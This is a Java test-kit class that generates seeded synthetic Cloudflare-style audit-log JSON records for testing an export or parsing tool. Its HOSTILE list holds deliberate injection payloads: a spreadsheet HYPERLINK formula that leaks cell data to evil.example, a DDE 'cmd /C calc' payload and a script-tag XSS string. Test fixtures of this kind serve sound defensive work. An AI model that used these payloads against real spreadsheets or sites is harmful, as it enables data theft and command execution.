package dev.cfauditlogs.testkit;

import com.squareup.moshi.JsonWriter;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Random;
import java.util.UUID;
import okio.Buffer;
import org.jspecify.annotations.Nullable;

/**
 * Writes realistic audit-log records from a seed. Only {@link Random} methods whose algorithm its
 * Javadoc fixes are used, so the same seed gives byte-identical records on every JDK.
 *
 * <p>Record {@code i} (in time order) carries a hostile string when {@code i % 7 == 3}, members the
 * spec does not list when {@code i % 9 == 4}, no {@code interface}/{@code oldValue}/{@code
 * newValue} when {@code i % 11 == 6}, and shares its second with record {@code i - 1} when {@code i
 * % 10 == 5}.
 */
final class SyntheticGenerator {
  /** Strings that break naive CSV, spreadsheet, HTML and terminal handling. */
  static final List<String> HOSTILE =
      List.of(
          "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click me\")",
          "+SUM(1,2)",
          "-2+3+cmd|' /C calc'!A0",
          "@SUM(A1:A9)",
          "comma, separated, values",
          "she said \"hello\" and left",
          "first line\nsecond line",
          "windows\r\nline break",
          "tab\tseparated",
          "Zürich Straße – 東京 – 🚀",
          "  padded with spaces  ",
          "<script>alert('xss')</script>",
          "back\\slash and 'single quotes'",
          "=1+1");

  private static final String[] ZONES = {
    "example.com",
    "example.net",
    "shop.example.org",
    "bücher.example",
    "xn--mnchen-3ya.example",
    "api.example.io"
  };
  private static final String[] USER_EMAILS = {
    "michelle@example.com",
    "Alice.Nguyen@Example.com",
    "bob@example.net",
    "o'neil+audit@example.org",
    "=2+5@example.com",
    "carol@xn--bcher-kva.example",
    "-deploy@example.com"
  };
  private static final String[] ADMIN_EMAILS = {
    "jane.admin@cloudflare.com", "support-7@cloudflare.com"
  };
  private static final String[] KINDS = {
    "login", "login", "login", "logout", "change_setting", "change_setting", "change_setting",
        "rec_add",
    "rec_set", "rec_set", "rec_del", "purge", "token_create", "token_roll", "token_delete",
        "api_key_view",
    "member_invite", "script_upload"
  };
  private static final String[][] SETTINGS = {
    {"security_level", "firewall", "off", "low", "medium", "high", "under_attack"},
    {"ssl", "zone_setting", "off", "flexible", "full", "strict"},
    {"min_tls_version", "zone_setting", "1.0", "1.1", "1.2", "1.3"},
    {"always_use_https", "zone_setting", "on", "off"},
    {"development_mode", "zone_setting", "on", "off"}
  };

  /** An actor of the pool: its email and IP are absent for Cloudflare's own automation. */
  private static final class Actor {
    final String id;
    final @Nullable String email;
    final List<String> ips;
    final String type;

    Actor(String id, @Nullable String email, List<String> ips, String type) {
      this.id = id;
      this.email = email;
      this.ips = ips;
      this.type = type;
    }
  }

  private final Random random;
  private final String ownerId;
  private final String accountId;
  private final String[] zoneIds = new String[ZONES.length];
  private final List<Actor> users = new ArrayList<>();
  private final List<Actor> admins = new ArrayList<>();
  private final Actor system;
  private long index;

  /**
   * A generator whose actors, zones and owner come from {@code seed}; {@code stream} picks an
   * independent sequence of records over the same pool (0 for a data set, 1 for appends to it). The
   * records' account (the {@code account} member, an invited member's account) is {@code account}
   * for an account's log, as in Cloudflare's account audit logs, whose records carry that account's
   * id; for the user's log ({@code null}) one drawn from the seed.
   */
  SyntheticGenerator(long seed, int stream, long firstIndex, @Nullable String account) {
    Random pool = new Random(seed);
    ownerId = hex(pool, 32);
    String drawn = hex(pool, 32); // drawn either way: the rest of the pool stays the same
    accountId = account != null ? account : drawn;
    for (int z = 0; z < ZONES.length; z++) {
      zoneIds[z] = hex(pool, 32);
    }
    for (int k = 0; k < USER_EMAILS.length; k++) {
      List<String> ips = new ArrayList<>();
      if (k % 3 == 0) {
        ips.add(ipv6(pool));
      }
      ips.add((k % 2 == 0 ? "198.51.100." : "203.0.113.") + (1 + pool.nextInt(254)));
      if (k % 3 == 1) {
        ips.add((k % 2 == 0 ? "198.51.100." : "203.0.113.") + (1 + pool.nextInt(254)));
      }
      users.add(new Actor(hex(pool, 32), USER_EMAILS[k], List.copyOf(ips), "user"));
    }
    for (String email : ADMIN_EMAILS) {
      admins.add(
          new Actor(hex(pool, 32), email, List.of("192.0.2." + (1 + pool.nextInt(254))), "admin"));
    }
    system = new Actor(hex(pool, 32), null, List.of(), "Cloudflare");
    random = new Random(seed * 0x9E3779B97F4A7C15L + stream * 0xBF58476D1CE4E5B9L + 1);
    index = firstIndex;
  }

  /**
   * {@code size} whole-second instants in {@code [fromSecond, toSecond)}, ascending, every tenth
   * one repeating its predecessor's second.
   */
  static long[] seconds(long seed, int size, long fromSecond, long toSecond) {
    Random times = new Random(Long.rotateLeft(seed, 17) ^ 0x2545F4914F6CDD1DL);
    long span = toSecond - fromSecond;
    long[] out = new long[size];
    for (int i = 0; i < size; i++) {
      out[i] = fromSecond + Math.floorMod(times.nextLong(), span);
    }
    Arrays.sort(out);
    for (int i = 5; i < size; i += 10) {
      out[i] = out[i - 1];
    }
    return out;
  }

  /** The next record, happening at {@code when}. */
  String next(Instant when) {
    long i = index++;
    Actor actor = pickActor();
    String kind = KINDS[random.nextInt(KINDS.length)];
    int zone = random.nextInt(ZONES.length);
    String hostile = HOSTILE.get((int) ((i / 7) % HOSTILE.size()));
    boolean isHostile = i % 7 == 3;
    boolean unknownMembers = i % 9 == 4;
    boolean sparse = i % 11 == 6;
    Buffer buffer = new Buffer();
    try (JsonWriter w = JsonWriter.of(buffer)) {
      w.beginObject();
      w.name("id").value(uuid());
      w.name("action").beginObject();
      w.name("result").value(random.nextInt(100) < 94);
      w.name("type").value(kind);
      w.endObject();
      w.name("actor").beginObject();
      w.name("id").value(actor.id);
      if (actor.email != null) {
        w.name("email").value(actor.email);
      }
      if (!actor.ips.isEmpty()) {
        w.name("ip").value(actor.ips.get(random.nextInt(actor.ips.size())));
      }
      w.name("type").value(actor.type);
      if (unknownMembers) {
        w.name("token").beginObject();
        w.name("id").value(hex(random, 32));
        w.name("name").value("CI deploy token");
        w.endObject();
      }
      w.endObject();
      Change change = change(kind, actor, zone);
      if (!sparse) {
        w.name("interface").value(change.iface);
      }
      w.name("metadata").beginObject();
      for (int m = 0; m + 1 < change.metadata.size(); m += 2) {
        writeValue(w.name((String) change.metadata.get(m)), change.metadata.get(m + 1));
      }
      if (isHostile && i % 14 == 3) {
        w.name("comment").value(HOSTILE.get((int) ((i / 7 + 5) % HOSTILE.size())));
      }
      w.endObject();
      String newValue = isHostile ? hostile : change.newValue;
      if (!sparse && newValue != null) {
        w.name("newValue").value(newValue);
      }
      String oldValue =
          isHostile && i % 14 == 3
              ? HOSTILE.get((int) ((i / 7 + 9) % HOSTILE.size()))
              : change.oldValue;
      if (!sparse && oldValue != null) {
        w.name("oldValue").value(oldValue);
      }
      w.name("owner").beginObject().name("id").value(ownerId).endObject();
      w.name("resource").beginObject();
      w.name("id").value(change.resourceId);
      w.name("type").value(change.resourceType);
      w.endObject();
      w.name("when").value(when.toString());
      if (unknownMembers) {
        w.name("account").beginObject();
        w.name("id").value(accountId);
        w.name("name").value("Example Corp");
        w.endObject();
      }
      w.endObject();
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    return buffer.readUtf8();
  }

  /**
   * What a kind of action changed: metadata as name/value pairs ({@code Boolean}, list or string
   * values).
   */
  private static final class Change {
    String iface = "API";
    List<Object> metadata = new ArrayList<>();
    @Nullable String oldValue;
    @Nullable String newValue;
    String resourceId = "";
    String resourceType = "";
  }

  private Change change(String kind, Actor actor, int zone) {
    Change c = new Change();
    c.iface = random.nextInt(100) < 55 ? "API" : "UI";
    String zoneName = ZONES[zone];
    switch (kind) {
      case "login":
      case "logout":
      case "api_key_view":
        c.iface = "UI";
        c.resourceId = actor.id;
        c.resourceType = "user";
        if (kind.equals("login")) {
          c.metadata.addAll(List.of("method", random.nextBoolean() ? "password" : "sso"));
        }
        break;
      case "change_setting":
        String[] setting = SETTINGS[random.nextInt(SETTINGS.length)];
        int choices = setting.length - 2;
        int from = random.nextInt(choices);
        int to = (from + 1 + random.nextInt(choices - 1)) % choices;
        c.oldValue = setting[2 + from];
        c.newValue = setting[2 + to];
        c.metadata.addAll(
            List.of(
                "name",
                setting[0],
                "type",
                setting[1],
                "value",
                c.newValue,
                "zone_name",
                zoneName));
        c.resourceId = zoneIds[zone];
        c.resourceType = "zone";
        break;
      case "rec_add":
      case "rec_set":
      case "rec_del":
        String content = "198.51.100." + (1 + random.nextInt(254));
        String previous = "203.0.113." + (1 + random.nextInt(254));
        c.metadata.addAll(
            List.of(
                "zone_name",
                zoneName,
                "dns_record_name",
                "www." + zoneName,
                "dns_record_type",
                "A",
                "dns_record_content",
                content));
        c.newValue = kind.equals("rec_del") ? null : "{\"content\":\"" + content + "\",\"ttl\":1}";
        c.oldValue = kind.equals("rec_add") ? null : "{\"content\":\"" + previous + "\",\"ttl\":1}";
        c.resourceId = hex(random, 32);
        c.resourceType = "DNS_record";
        break;
      case "purge":
        c.metadata.add("zone_name");
        c.metadata.add(zoneName);
        if (random.nextBoolean()) {
          c.metadata.addAll(List.of("purge_everything", Boolean.TRUE));
        } else {
          c.metadata.addAll(
              List.of(
                  "files",
                  List.of("https://" + zoneName + "/app.css", "https://" + zoneName + "/a,b.js")));
        }
        c.resourceId = zoneIds[zone];
        c.resourceType = "zone";
        break;
      case "token_create":
      case "token_roll":
      case "token_delete":
        c.metadata.addAll(
            List.of("token_name", random.nextBoolean() ? "CI deploy" : "Read audit logs"));
        c.resourceId = hex(random, 32);
        c.resourceType = "API_token";
        break;
      case "member_invite":
        c.metadata.addAll(
            List.of(
                "invited_email",
                "new.hire@example.com",
                "roles",
                List.of("Administrator Read Only")));
        c.resourceId = accountId;
        c.resourceType = "account";
        break;
      case "script_upload":
      default:
        String script = random.nextBoolean() ? "edge-router" : "image-resizer";
        c.metadata.addAll(List.of("script_name", script, "zone_name", zoneName));
        c.newValue = "etag:" + hex(random, 16);
        c.resourceId = script;
        c.resourceType = "worker_script";
        break;
    }
    return c;
  }

  private static void writeValue(JsonWriter w, Object value) throws IOException {
    if (value instanceof Boolean) {
      w.value((Boolean) value);
    } else if (value instanceof List) {
      w.beginArray();
      for (Object item : (List<?>) value) {
        w.value(String.valueOf(item));
      }
      w.endArray();
    } else {
      w.value(String.valueOf(value));
    }
  }

  private Actor pickActor() {
    int roll = random.nextInt(100);
    if (roll < 80) {
      return users.get(random.nextInt(users.size()));
    }
    if (roll < 92) {
      return admins.get(random.nextInt(admins.size()));
    }
    return system;
  }

  private String uuid() {
    long msb = (random.nextLong() & ~0xF000L) | 0x4000L;
    long lsb = (random.nextLong() & 0x3FFFFFFFFFFFFFFFL) | 0x8000000000000000L;
    return new UUID(msb, lsb).toString();
  }

  private static String hex(Random r, int length) {
    StringBuilder s = new StringBuilder(length);
    for (int i = 0; i < length; i++) {
      s.append(Character.forDigit(r.nextInt(16), 16));
    }
    return s.toString();
  }

  private static String ipv6(Random r) {
    int[] words = {
      0x2001, 0x0db8, r.nextInt(0x10000), r.nextInt(0x10000), 0, 0, 0, 1 + r.nextInt(0xffff)
    };
    return IpRange.formatIpv6(words);
  }
}
